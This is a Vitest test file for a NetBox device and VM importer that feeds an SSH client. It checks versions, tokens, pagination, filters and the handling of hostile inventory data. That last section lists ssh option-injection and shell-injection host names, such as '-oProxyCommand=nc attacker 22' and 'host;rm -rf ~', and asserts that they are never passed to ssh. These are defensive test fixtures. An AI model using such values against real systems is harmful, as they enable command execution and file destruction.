/**
 * The NetBox importer against the NetBox simulator (../shared/netbox-sim): releases 3.7, 4.2
 * and 4.5, both token styles, pagination under a concurrency bound, every filter, brief mode,
 * hostile data, and the HostSource the app uses.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ApiError } from '../../src-main/common/apiError';
import { NetboxError } from '../../src-main/inventory/netbox/netboxErrors';
import { probeNetbox } from '../../src-main/inventory/netbox/netboxProbe';
import { NetboxSource } from '../../src-main/inventory/netbox/netboxSource';
import { createUndiciNetboxHttp } from '../../src-main/inventory/netbox/undiciNetboxHttp';
import { hostNameProblem } from '../../src-main/ssh/hostNameValidation';
import {
  countingHttp,
  importErrorFromSim,
  importFromSim,
  simSettings,
  startSim,
  type NetboxSim,
} from './netboxSimHarness';

const sims: NetboxSim[] = [];
async function sim(options: Parameters<typeof startSim>[0]): Promise<NetboxSim> {
  const started = await startSim(options);
  sims.push(started);
  return started;
}
afterAll(async () => {
  await Promise.all(sims.map((s) => s.close()));
});

/** What NetBox itself counts for a query: the independent oracle for filters. */
async function simCount(s: NetboxSim, path: string, query: string): Promise<number> {
  const res = await fetch(`${s.url}${path}?${query}${query ? '&' : ''}brief=1&limit=1`, {
    headers: { Authorization: `Token ${s.token}` },
  });
  return ((await res.json()) as { count: number }).count;
}

const DEVICES = '/api/dcim/devices/';
const VMS = '/api/virtualization/virtual-machines/';

describe('NetBox releases and token styles', () => {
  let v45: NetboxSim;
  let v42: NetboxSim;
  let v37: NetboxSim;
  beforeAll(async () => {
    [v45, v42, v37] = await Promise.all([
      sim({ devices: 120, vms: 60, seed: 11, version: '4.5' }),
      sim({ devices: 120, vms: 60, seed: 12, version: '4.2' }),
      sim({ devices: 120, vms: 60, seed: 13, version: '3.7' }),
    ]);
  });

  it.each(['v1', 'v2'] as const)('4.5 with a %s token: every device and VM, nothing twice', async (style) => {
    v45.resetStats();
    const { result } = await importFromSim(v45, { token: style === 'v1' ? v45.token : v45.tokenV2 });
    expect(result.version?.text).toBe('4.5.10');
    expect(result.stats.devices).toBe(await simCount(v45, DEVICES, ''));
    expect(result.stats.vms).toBe(await simCount(v45, VMS, ''));
    const ids = result.hosts.map((h) => h.host.id);
    expect(new Set(ids).size).toBe(ids.length);
    expect(ids.filter((id) => id.startsWith('netbox:test:device:'))).toHaveLength(result.stats.devices);
    expect(v45.getStats().tokens[style]).toBeGreaterThan(0);
    expect(v45.getStats().authFailures).toBe(0);
  });

  it.each([
    ['4.2', () => v42, '4.2.9'],
    ['3.7', () => v37, '3.7.8'],
  ])(
    '%s: same hosts shape, version detected, roles read whatever the field name',
    async (_name, get, release) => {
      const s = get();
      const { result, stats } = await importFromSim(s);
      expect(result.version?.text).toBe(release);
      expect(result.hosts).toHaveLength((await simCount(s, DEVICES, '')) + (await simCount(s, VMS, '')));
      const withRole = result.hosts.filter((h) => h.record.role !== null);
      expect(withRole.length).toBe(result.hosts.length);
      expect(
        result.hosts.every((h) => h.host.groups.length === 2 && !h.host.groups[1]?.startsWith('(no ')),
      ).toBe(true);
      // ?fields= exists from 4.0; 3.7 gets the full objects.
      const lists = stats.requests.filter((u) => u.includes('/api/dcim/devices/'));
      expect(lists.every((u) => u.includes('fields=') === release.startsWith('4'))).toBe(true);
    },
  );

  it('3.7 without config-context sources asks NetBox to leave the contexts out', async () => {
    const { result, stats } = await importFromSim(v37, {
      settings: { mapping: { userFrom: ['cf:ssh_user'], portFrom: ['cf:ssh_port'] } },
    });
    expect(
      stats.requests
        .filter((u) => u.includes('/api/dcim/devices/'))
        .every((u) => u.includes('exclude=config_context')),
    ).toBe(true);
    expect(result.hosts.every((h) => h.record.configContext === null)).toBe(true);
  });

  it('reads ssh user and port from custom fields and config contexts of every release', async () => {
    for (const s of [v45, v37]) {
      const { result } = await importFromSim(s);
      const users = new Set(result.hosts.map((h) => h.host.user).filter(Boolean));
      const ports = new Set(result.hosts.map((h) => h.host.port).filter(Boolean));
      expect(users.size).toBeGreaterThan(1);
      expect(ports.size).toBeGreaterThan(1);
      const fromContext = result.hosts.find((h) => h.record.customFields.ssh_user === null && h.host.user);
      expect(fromContext).toBeDefined();
    }
  });

  it('a v2 token on 4.2 or 3.7 fails with the reason, not a generic 403', async () => {
    for (const s of [v42, v37]) {
      const { error } = await importErrorFromSim(s, { token: v45.tokenV2 });
      expect(error).toBeInstanceOf(NetboxError);
      expect(error.message).toMatch(
        /This is NetBox (4\.2|3\.7)(\.\d+)?: v2 tokens \(nbt_…\) need NetBox 4\.5 or later/,
      );
      expect(error.message).not.toContain(v45.tokenV2.split('.')[1]);
    }
  });

  it('a wrong token: NetBox words, per release, and no token in the message', async () => {
    const bad = '0123456789abcdef0123456789abcdef01234567';
    const v45Error = (await importErrorFromSim(v45, { token: bad })).error;
    expect(v45Error.message).toMatch(
      /NetBox refused the API token \(403: Invalid v1 token\)\. Check the token/,
    );
    const v37Error = (await importErrorFromSim(v37, { token: bad })).error;
    expect(v37Error.message).toMatch(/NetBox refused the API token \(403: Invalid token\)/);
    const v2Error = (
      await importErrorFromSim(v45, { token: 'nbt_AAAAAAAAAAAA.BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB' })
    ).error;
    expect(v2Error.message).toMatch(/403: Invalid v2 token/);
    for (const error of [v45Error, v37Error, v2Error])
      expect(error.message).not.toMatch(/0123456789abcdef|BBBBBBBB/);
    const none = (await importErrorFromSim(v45, { token: null })).error;
    expect(none.message).toMatch(
      /Authentication credentials were not provided\.\)\. This NetBox requires an API token/,
    );
  });
});

describe('pagination with bounded concurrency', () => {
  let big: NetboxSim;
  let capped: NetboxSim;
  beforeAll(async () => {
    [big, capped] = await Promise.all([
      sim({ devices: 2000, vms: 1000, seed: 21 }),
      sim({ devices: 600, vms: 100, seed: 22, maxPageSize: 100 }),
    ]);
  });

  it.each([1, 3, 6])(
    'concurrency %i: every object once, never more requests in flight',
    async (concurrency) => {
      big.resetStats();
      const { result, stats } = await importFromSim(big, {
        settings: { fetch: { concurrency, pageSize: 100 } },
      });
      expect(result.stats.devices).toBe(2000);
      expect(result.stats.vms).toBe(1000);
      expect(new Set(result.hosts.map((h) => h.host.id)).size).toBe(3000);
      expect(stats.maxInFlight).toBe(concurrency);
      // status + 20 device pages + 10 VM pages, nothing fetched twice.
      expect(stats.requests).toHaveLength(31);
      expect(big.getStats().byPath['/api/dcim/devices/']).toBe(20);
    },
  );

  it("follows NetBox's MAX_PAGE_SIZE when it is below the page size asked for", async () => {
    const { result, stats } = await importFromSim(capped, { settings: { fetch: { pageSize: 500 } } });
    expect(result.stats.devices).toBe(await simCount(capped, DEVICES, ''));
    expect(stats.requests.filter((u) => u.includes('/api/dcim/devices/'))).toHaveLength(
      Math.ceil(result.stats.devices / 100),
    );
  });

  it('reports progress up to the total', async () => {
    const seen: Array<{ fetched: number; total: number }> = [];
    const source = new NetboxSource(
      {
        id: 'big',
        settings: { url: big.url, fetch: { pageSize: 250 } },
        token: () => Promise.resolve(big.token),
      },
      { files: { readText: () => Promise.reject(new Error('no files')) } },
    );
    await source.sync({ onProgress: (p) => seen.push(p) });
    expect(seen.at(-1)).toEqual({ fetched: 3000, total: 3000 });
    expect(seen.every((p, i) => i === 0 || p.fetched >= (seen[i - 1]?.fetched ?? 0))).toBe(true);
  });
});

describe('filters', () => {
  let s: NetboxSim;
  beforeAll(async () => {
    s = await sim({ devices: 400, vms: 200, seed: 31 });
  });

  it.each([
    ['site', { site: ['fra1'] }, 'site=fra1'],
    ['role', { role: ['leaf'] }, 'role=leaf'],
    ['tenant', { tenant: ['acme-corp'] }, 'tenant=acme-corp'],
    ['tag (AND)', { tag: ['ansible-managed', 'monitoring'] }, 'tag=ansible-managed&tag=monitoring'],
    ['status (OR)', { status: ['active', 'planned'] }, 'status=active&status=planned'],
    ['platform', { platform: ['ubuntu-2204'] }, 'platform=ubuntu-2204'],
    ['free-form lookup', { query: ['name__ic=prod'] }, 'name__ic=prod'],
    ['custom field', { query: ['cf_environment=production'] }, 'cf_environment=production'],
    ['has_primary_ip', { query: ['has_primary_ip=true'] }, 'has_primary_ip=true'],
  ])('%s filter selects what NetBox selects', async (_name, filters, query) => {
    const { result } = await importFromSim(s, { settings: { filters } });
    const devices = await simCount(s, DEVICES, query);
    const vms = await simCount(s, VMS, query);
    expect(result.stats).toMatchObject({ devices, vms });
    expect(devices + vms).toBeGreaterThan(0);
    expect(devices + vms).toBeLessThan(600);
  });

  it('device: and vm: prefixes send a filter to one list only', async () => {
    const { result } = await importFromSim(s, {
      settings: { filters: { query: ['device:rack_id=3', 'vm:cluster_id=1'] } },
    });
    expect(result.stats.devices).toBe(await simCount(s, DEVICES, 'rack_id=3'));
    expect(result.stats.vms).toBe(await simCount(s, VMS, 'cluster_id=1'));
  });

  it('an unknown filter name is refused before anything is imported (NetBox would ignore it)', async () => {
    s.resetStats();
    const { error } = await importErrorFromSim(s, { settings: { filters: { query: ['stauts=active'] } } });
    expect(error.message).toBe(
      'NetBox has no filter "stauts" for devices: it would ignore it and import every one.',
    );
    // Checked against NetBox's own schema, before any list was read.
    expect(s.getStats().byPath['/api/schema/']).toBe(1);
    expect(s.getStats().byPath['/api/dcim/devices/']).toBeUndefined();
    const both = await importErrorFromSim(s, { settings: { filters: { query: ['rack_id=3'] } } });
    expect(both.error.message).toMatch(
      /no filter "rack_id" for virtual machines.*To send it to the devices only, write device:rack_id=… , or import devices only\./,
    );
    const devicesOnly = await importFromSim(s, {
      settings: { kinds: 'devices', filters: { query: ['rack_id=3'] } },
    });
    expect(devicesOnly.result.stats).toMatchObject({
      devices: await simCount(s, DEVICES, 'rack_id=3'),
      vms: 0,
    });
  });

  it('a 3.x device_role filter is renamed for NetBox 4 instead of being ignored', async () => {
    const { result } = await importFromSim(s, {
      settings: { kinds: 'devices', filters: { query: ['device_role=leaf'] } },
    });
    expect(result.stats.devices).toBe(await simCount(s, DEVICES, 'role=leaf'));
    expect(result.warnings).toContain(
      'The NetBox filter "device_role" is named "role" since NetBox 4; sent as "role".',
    );
  });

  it("a bad filter value gets NetBox's own explanation", async () => {
    const { error } = await importErrorFromSim(s, { settings: { filters: { status: ['bogus'] } } });
    expect(error.message).toMatch(
      /NetBox rejected the query the devices list \(offset 0\) at http:\/\/127\.0\.0\.1:\d+: status: Select a valid choice\. bogus is not one of the available choices\./,
    );
  });

  it('brief mode: the connection test counts what the filters select with one light request per list', async () => {
    const { http, stats } = countingHttp();
    const probe = await probeNetbox(
      { settings: simSettings(s, { filters: { site: ['fra1'] } }), token: s.token },
      { http },
    );
    await http.close();
    expect(probe.version?.text).toBe('4.5.10');
    expect(probe.counts).toEqual({
      device: await simCount(s, DEVICES, 'site=fra1'),
      vm: await simCount(s, VMS, 'site=fra1'),
    });
    const lists = stats.requests.filter((u) => !u.includes('/api/status/'));
    expect(lists).toHaveLength(2);
    expect(lists.every((u) => u.includes('brief=1') && u.includes('limit=1'))).toBe(true);
  });
});

describe('addresses, grouping and hostile data', () => {
  let s: NetboxSim;
  beforeAll(async () => {
    s = await sim({ devices: 150, vms: 60, seed: 41, hostile: true });
  });

  it('every host is kept; each connectable one has a safe address, user and port', async () => {
    const { result } = await importFromSim(s);
    expect(result.hosts).toHaveLength((await simCount(s, DEVICES, '')) + (await simCount(s, VMS, '')));
    for (const { host } of result.hosts) {
      if (host.problem) continue;
      expect(host.address, host.label).toBeDefined();
      expect(hostNameProblem(host.address ?? '')).toBeUndefined();
      if (host.user) expect(host.user).toMatch(/^[A-Za-z0-9_.][A-Za-z0-9_.@-]*$/);
    }
    const byName = (name: string) => result.hosts.find((h) => h.record.name === name);
    expect(byName('evil-ssh-settings')?.host.problem).toMatch(/Unsafe ssh user in the custom field ssh_user/);
    expect(byName('weird-ipv4')?.host.problem).toMatch(
      /"010\.001\.002\.003\/24" is not a valid IPv4 address/,
    );
    expect(byName('v4-mapped-v6')?.host.address).toBe('192.0.2.44');
    for (const name of [
      '-oProxyCommand=touch /tmp/pwned',
      'host;rm -rf ~',
      '$(reboot)',
      '-oProxyCommand=nc attacker 22',
    ]) {
      const mapped = byName(name);
      expect(mapped?.host.address).toMatch(/^[\d.:a-f]+$/);
      expect(mapped?.details.warnings.join(' ')).toMatch(/never passed to ssh/);
    }
    expect(result.hosts.filter((h) => h.record.name === 'dup-name')).toHaveLength(2);
    expect(
      result.hosts
        .filter((h) => h.record.name === null)
        .map((h) => h.host.label)
        .sort(),
    ).toEqual([expect.stringMatching(/^Dell PowerEdge R750 \(\d+\)$/), 'Dell PowerEdge R750 (HOSTILE-1)']);
  });

  it('DNS names as addresses: looked up on the IP objects when NetBox does not nest them', async () => {
    const { result, stats } = await importFromSim(s, {
      settings: { mapping: { addressFrom: ['dns-name', 'primary-ip4'] } },
    });
    const byDns = result.hosts.filter((h) => h.details.addressSource === 'dns-name');
    expect(byDns.length).toBeGreaterThan(50);
    expect(byDns.every((h) => /^[a-z0-9.-]+$/.test(h.host.address ?? ''))).toBe(true);
    expect(stats.requests.some((u) => u.includes('/api/ipam/ip-addresses/'))).toBe(true);
  });

  it('groups by tag, nested under site: one folder per tag', async () => {
    const { result } = await importFromSim(s, { settings: { mapping: { groupBy: ['site', 'tag'] } } });
    const multi = result.hosts.find((h) => h.record.tags.length >= 2);
    expect(multi?.details.groupPaths).toHaveLength(multi?.record.tags.length ?? 0);
    expect(multi?.host.groups[0]).toBe(multi?.record.site?.name);
  });

  it('as a HostSource: hosts, an ssh destination only for safe hosts, stale hosts kept on failure', async () => {
    let now = 1_000_000;
    const source = new NetboxSource(
      {
        id: 'lab',
        settings: {
          url: s.url,
          fetch: { requestTimeoutMs: 2_000, retry: { maxRetries: 1, baseDelayMs: 1 } },
        },
        token: () => Promise.resolve(s.token),
      },
      {
        files: { readText: () => Promise.reject(new Error('unused')) },
        now: () => now,
        reuseWithinMs: 10_000,
      },
    );
    expect(source.id).toBe('netbox:lab');
    const first = await source.load();
    expect(first.error).toBeUndefined();
    expect(first.location).toBe(s.url);
    const safe = first.hosts.find((h) => !h.problem && h.user);
    expect(safe && source.sshDestination(safe)).toBe(safe?.address);
    const unsafe = first.hosts.find((h) => h.problem);
    expect(() => unsafe && source.sshDestination(unsafe)).toThrow(ApiError);
    expect(source.hostDetails(first.hosts[0]?.id ?? '')?.netboxId).toBeTypeOf('number');

    s.setFaults(['status:code=500,path=/api/dcim/devices/']);
    try {
      s.resetStats();
      const reused = await source.load();
      expect(s.getStats().requests).toBe(0);
      expect(reused.hosts).toHaveLength(first.hosts.length);
      now += 60_000;
      const stale = await source.load();
      expect(stale.error).toMatch(/NetBox failed to answer the devices list.*500/);
      expect(stale.hosts).toEqual(first.hosts);
    } finally {
      s.clearFaults();
    }
  });

  it('concurrent loads share one sync', async () => {
    s.resetStats();
    const source = new NetboxSource(
      { id: 'lab2', settings: { url: s.url }, token: () => Promise.resolve(s.token) },
      {
        files: { readText: () => Promise.reject(new Error('unused')) },
        createHttp: () => Promise.resolve(createUndiciNetboxHttp()),
      },
    );
    const [a, b] = await Promise.all([source.load(), source.load()]);
    expect(a.hosts).toEqual(b.hosts);
    expect(s.getStats().byPath['/api/status/']).toBe(1);
  });
});
